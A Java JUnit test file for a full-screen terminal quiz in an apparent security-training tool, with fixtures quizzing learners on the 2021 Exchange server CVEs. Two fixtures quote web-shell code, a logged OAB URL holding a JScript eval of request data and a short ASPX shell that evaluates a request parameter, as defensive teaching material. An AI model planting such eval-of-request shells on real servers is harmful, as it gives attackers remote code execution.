package org.hygiene.quiz;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.hygiene.core.course.Course;
import org.hygiene.core.course.CourseLoader;
import org.hygiene.core.markdown.Theme;
import org.hygiene.core.progress.ProgressStore;
import org.hygiene.core.progress.UnitProgress;
import org.hygiene.core.progress.UnitState;
import org.hygiene.core.spi.Plugins;
import org.hygiene.core.spi.Session;
import org.hygiene.core.testing.ScreenDriver;
import org.hygiene.quiz.player.QuizPlayer;
import org.jline.terminal.Terminal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The full-screen quiz, driven by keys over a terminal built on memory streams; each key is typed
 * once the screen it is meant for is drawn.
 */
@org.junit.jupiter.api.Timeout(60)
class QuizScreenTest {
    static final String QUIZ =
            """
            ---
            id: demo
            title: Demo check
            shuffle: false
            ---

            ## Which CVE is the SSRF?

            1. [ ] CVE-2021-26857
            1. [x] CVE-2021-26855

            ## Which are file writes?

            - [x] CVE-2021-26858
            - [x] CVE-2021-27065
            - [ ] CVE-2021-26855
            """;

    static final String DOWN = "\033[B";
    static final String UP = "\033[A";

    @TempDir Path dir;

    /**
     * What was drawn, without escape sequences or white space: the diff-based redraw moves the
     * cursor over unchanged cells and spaces, so only the letters are reliable.
     */
    private record Played(Session session, String screen, List<String> screens) {
        String letters() {
            return screen.replaceAll("\033\\[[0-9;?$]*[A-Za-z]", "").replaceAll("\\s", "");
        }

        Played shows(String... texts) {
            for (String t : texts) {
                assertThat(letters()).contains(t.replaceAll("\\s", ""));
            }
            return this;
        }
    }

    /**
     * Play the quiz at 80x24, as a person would: for each step, wait until the screen shows its
     * text, then type its keys. Each key thus answers the screen it was meant for, however loaded
     * the machine.
     */
    /** Wait until the screen shows {@code screen}, then type {@code keys}. */
    private record Step(String screen, String keys) {}

    private static Step on(String screen, String keys) {
        return new Step(screen, keys);
    }

    private Played play(String quiz, Step... steps) throws Exception {
        return playAt(80, 24, quiz, steps);
    }

    private Played playAt(int columns, int rows, String quiz, Step... steps) throws Exception {
        TestCourse course = new TestCourse(dir, "demo.md", quiz);
        Course c = CourseLoader.load(course.root);
        try (ScreenDriver driver = new ScreenDriver(columns, rows)) {
            Terminal terminal = driver.terminal();
            ProgressStore store = new ProgressStore(course.home, TestCourse.fixedClock());
            Session session =
                    new Session(
                            c,
                            store.load("ada").progress(),
                            store,
                            terminal,
                            Theme.MONO,
                            new Plugins(List.of(new QuizPlugin())),
                            TestCourse.fixedClock(),
                            new PrintWriter(new StringWriter()));
            List<String> seen = new ArrayList<>();
            driver.start(
                    () -> {
                        new QuizPlayer().play(c.unit("demo").orElseThrow(), session);
                        return 0;
                    });
            for (Step step : steps) {
                driver.waitForScreen(step.screen());
                seen.add(driver.screenNow());
                driver.type(step.keys());
            }
            driver.exitStatus();
            terminal.close();
            return new Played(session, driver.output(), seen);
        }
    }

    @Test
    void arrowKeysSpaceAndEnterAnswerSubmitAndShowTheReview() throws Exception {
        // Start; move to b and take it; toggle a and b; submit; leave the review.
        Played p =
                play(
                        QUIZ,
                        on("Enter start", "\r"),
                        on("Question 1 of 2", DOWN),
                        on(">   b) ( )", "\r"),
                        on("Question 2 of 2", " "),
                        on("a) [x]", DOWN),
                        on(">   b) [ ]", " "),
                        on("b) [x]", "\r"),
                        on("Ready to submit?", "\r"),
                        on("Score 2/2", "q"));
        UnitProgress progress = p.session().progressOf("demo");
        assertThat(progress.state()).isEqualTo(UnitState.DONE);
        assertThat(progress.score()).isEqualTo(2);
        assertThat(progress.maxScore()).isEqualTo(2);
        p.shows(
                "Question 1 of 2",
                "Ready to submit? You answered 2 of 2 questions.",
                "Score 2/2 (100%): passed");
        assertThat(p.session().quitRequested()).isFalse();
    }

    @Test
    void aLongTitleIsCutWithAnEllipsisAndTheSubmitScreenSaysWhereItIs() throws Exception {
        String title = "A check on the timeline of the Exchange attacks of 2021, with a long name";
        Played p =
                play(
                        QUIZ.replace("title: Demo check", "title: " + title),
                        on("Enter start", "\r"),
                        on("Question 1 of 2", "a"),
                        on("a) (*)", "\r"),
                        on("Question 2 of 2", "c"),
                        on("c) [x]", "\r"),
                        on("Ready to submit?", "\r"),
                        on("Score", "q"));
        String question = p.screens().get(1).lines().findFirst().orElseThrow().stripTrailing();
        assertThat(question)
                .startsWith(" A check on the timeline")
                .contains("…")
                .endsWith("Question 1 of 2");
        String submit = p.screens().get(5).lines().findFirst().orElseThrow().stripTrailing();
        assertThat(submit).contains("…").endsWith("Submit").doesNotContain("Question");
    }

    @Test
    void lettersChooseOptionsDirectly() throws Exception {
        Played p =
                play(
                        QUIZ,
                        on("Enter start", "\r"),
                        on("Question 1 of 2", "a"),
                        on("a) (*)", "\r"),
                        on("Question 2 of 2", "c"),
                        on("c) [x]", "\r"),
                        on("Ready to submit?", "\r"),
                        on("Score 0/2", "q"));
        assertThat(p.session().progressOf("demo").score()).isZero();
        p.shows("Score 0/2 (0%): not passed");
    }

    @Test
    void ctrlCKeepsTheAnswersGivenSoFarForResuming() throws Exception {
        Played p = answerTheFirstQuestionThenCtrlC();
        UnitProgress progress = p.session().progressOf("demo");
        assertThat(p.session().quitRequested()).isTrue();
        assertThat(progress.state()).isEqualTo(UnitState.STARTED);
        assertThat(progress.quiz().open().orElseThrow().responses())
                .containsEntry("which-cve-is-the-ssrf", "c:1");
        Played again =
                play(
                        QUIZ,
                        on("resume it", "\r"),
                        on("Question 2 of 2", " "),
                        on("a) [x]", DOWN),
                        on(">   b) [ ]", " "),
                        on("b) [x]", "\r"),
                        on("Ready to submit?", "\r"),
                        on("Score 2/2", "q"));
        again.shows("You have an unfinished attempt (1 of 2 answered");
        assertThat(again.session().progressOf("demo").score()).isEqualTo(2);
    }

    @Test
    void escLeavesWithoutSubmitting() throws Exception {
        Played p = play(QUIZ, on("Enter start", "\r"), on("Question 1 of 2", "\033"));
        assertThat(p.session().progressOf("demo").state()).isEqualTo(UnitState.STARTED);
        assertThat(p.session().progressOf("demo").quiz().open()).isPresent();
    }

    @Test
    void givingUpAGradedAttemptAsksFirstThenSubmitsItAsItStands() throws Exception {
        answerTheFirstQuestionThenCtrlC();
        Played kept =
                play(
                        QUIZ,
                        on("resume it", "d"),
                        on("other key keeps it", "n"),
                        on("Kept: Enter", "q"));
        kept.shows("Submitthisgradedattemptasitstands?", "Kept:Enterorrresumesit.");
        assertThat(kept.session().progressOf("demo").quiz().open()).isPresent();
        Played gone =
                play(
                        QUIZ,
                        on("resume it", "d"),
                        on("other key keeps it", "y"),
                        on("Submitted as it", "q"));
        assertThat(gone.session().progressOf("demo").quiz().open()).isEmpty();
        assertThat(gone.session().progressOf("demo").quiz().gradedCount()).isEqualTo(1);
    }

    private Played answerTheFirstQuestionThenCtrlC() throws Exception {
        return play(
                QUIZ,
                on("Enter start", "\r"),
                on("Question 1 of 2", DOWN),
                on(">   b) ( )", "\r"),
                on("Question 2 of 2", "\003"));
    }

    static final String TEXT_QUIZ =
            """
            ---
            id: demo
            title: Demo check
            shuffle: false
            ---

            ## Which parameter does the shell evaluate? {type=text}

            - [x] hl7Kq2

            ## Which CVE is the SSRF?

            1. [ ] CVE-2021-26857
            1. [x] CVE-2021-26855
            """;

    static final String LEFT = "\033[D";
    static final String RIGHT = "\033[C";

    private static String typedAnswer(Played p) {
        return p.session()
                .progressOf("demo")
                .quiz()
                .open()
                .orElseThrow()
                .responses()
                .get("which-parameter-does-the-shell-evaluate");
    }

    @Test
    void aLongPasteIntoATextAnswerIsKeptWhole() throws Exception {
        String paste = "x".repeat(5_000);
        Played p =
                play(
                        TEXT_QUIZ,
                        on("Enter start", "\r"),
                        on("Question 1 of 2", paste),
                        on("characters above; Home goes to the start", "\033"));
        assertThat(typedAnswer(p)).isEqualTo("t:" + paste);
        p.shows("characters above; Home goes to the start");
    }

    @Test
    void leftAndRightMoveTheCursorInATextAnswerInsteadOfChangingQuestion() throws Exception {
        // "hlKq2": Left x3 puts the cursor before K; Right x9 stops at the end, on question 1.
        Played p =
                play(
                        TEXT_QUIZ,
                        on("Enter start", "\r"),
                        on("Question 1 of 2", "hlKq2"),
                        on("hlKq2", LEFT + LEFT + LEFT + "7"),
                        on("hl7Kq2", RIGHT.repeat(9)),
                        on("Question 1 of 2", "\033"));
        assertThat(typedAnswer(p)).isEqualTo("t:hl7Kq2");
        assertThat(p.session().progressOf("demo").quiz().open().orElseThrow().index()).isZero();
    }

    @Test
    void homeEndDeleteAndCtrlUEditATextAnswer() throws Exception {
        Played p =
                play(
                        TEXT_QUIZ,
                        on("Enter start", "\r"),
                        on("Question 1 of 2", "Xhl7Kq"),
                        on("Xhl7Kq", "\001" + "\033[3~" + "\005" + "2"),
                        on("Answer: hl7Kq2", "\033"));
        assertThat(typedAnswer(p)).isEqualTo("t:hl7Kq2");
        // The attempt resumes on its first question, with hl7Kq2 typed.
        Played cleared =
                play(
                        TEXT_QUIZ,
                        on("resume it", "\r"),
                        on("hl7Kq2", "\025" + "y".repeat(300)),
                        on("yyyyyyyyyy", "\025" + "ok"),
                        on("Answer: ok", "\033"));
        assertThat(typedAnswer(cleared)).isEqualTo("t:ok");
    }

    @Test
    void tabHintIsOfferedOnlyWhereAQuestionHasAHint() throws Exception {
        Played p = play(TEXT_QUIZ, on("Enter start", "\r"), on("Question 1 of 2", "\033"));
        assertThat(p.letters()).doesNotContain("Tabhint");
    }

    static final String LONG_QUIZ =
            """
            ---
            id: demo
            title: Demo check
            shuffle: false
            ---

            ## What does this ECP Server log entry from a real incident show?

            ```
            2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''
            ```

            1. [x] A script that runs what a request sends, stored as the OAB directory's URL.
            1. [ ] An administrator moving the OAB download address to a new mail server.
            1. [ ] A failed sign-in to the Control Panel, logged with the rejected address.
            1. [ ] The attacker clearing the shell's script out of the directory after use.
            """;

    @Test
    void onASmallScreenTheQuestionStaysInViewWhileTheOptionsScroll() throws Exception {
        Played p =
                playAt(
                        50,
                        15,
                        LONG_QUIZ,
                        on("Enter start", "\r"),
                        on(">   a)", DOWN),
                        on(">   b)", DOWN),
                        on(">   c)", DOWN),
                        on(">   d)", "\033"));
        String lastOption = p.screens().get(4);
        assertThat(lastOption)
                .contains("What does this ECP Server log entry from a real")
                .contains("incident show?")
                .contains("↑ more above")
                .contains(">   d) ( ) The attacker clearing the shell's")
                .contains("script out of the directory after use.")
                .contains(" Space choose  Enter next  ? keys  q leave");
        // Back on the first option, the log line under the question is in view again.
        assertThat(p.screens().get(1)).contains("2021-03-03T06:49:53.772Z");
    }

    static final String ORDER_QUIZ =
            """
            ---
            id: demo
            title: Demo check
            ---

            ## Put these responses in the order Microsoft recommended.

            1. Investigate for exploitation or persistence
            2. Deploy the updates
            3. Remediate, then look for lateral movement
            """;

    @Test
    void orderingItemsKeepTheLettersTheReviewGivesThem() throws Exception {
        Played p =
                play(
                        ORDER_QUIZ,
                        on("Enter start", "\r"),
                        on("Put them in order", "z"),
                        on("Space picks up an item, Up/Down moves it.", "\r"),
                        on("Ready to submit?", "\r"),
                        on("Your answer:", "q"));
        String question = p.screens().get(1);
        String review = p.screens().get(4);
        for (String item :
                List.of(
                        "Investigate for exploitation or persistence",
                        "Deploy the updates",
                        "Remediate, then look for lateral movement")) {
            assertThat(letterOf(question, item)).isEqualTo(letterOf(review, item));
        }
        assertThat(question).doesNotContainPattern("[0-9]\\. (Investigate|Deploy|Remediate)");
    }

    /** The letter shown before {@code item}, as in " b) Deploy the updates". */
    private static String letterOf(String screen, String item) {
        int at = screen.indexOf(") " + item);
        assertThat(at).as("%s on:%n%s", item, screen).isPositive();
        return screen.substring(at - 1, at);
    }

    static final String TYPED_LONG_QUIZ =
            """
            ---
            id: demo
            title: Demo check
            ---

            ## Which parameter does this shell evaluate? {type=text}

            ```
            line 01 <%@ Page Language="Jscript"%>
            line 02
            line 03
            line 04
            line 05
            line 06
            line 07
            line 08
            line 09
            line 10 eval(Request["hl7Kq2"],"unsafe");
            ```

            - [x] hl7Kq2
            """;

    @Test
    void upShowsTheTopOfATypedQuestionTooTallForTheScreenAndTypingBringsTheFieldBack()
            throws Exception {
        Played p =
                playAt(
                        50,
                        15,
                        TYPED_LONG_QUIZ,
                        on("Enter start", "\r"),
                        on("↑ more above", UP),
                        on("line 01", "h"),
                        on("Answer: h", "\033"));
        assertThat(p.screens().get(1)).doesNotContain("line 01").contains("Answer:");
        assertThat(p.screens().get(2)).contains("Which parameter does this shell evaluate?");
        assertThat(p.screens().get(3)).doesNotContain("line 01");
    }
}
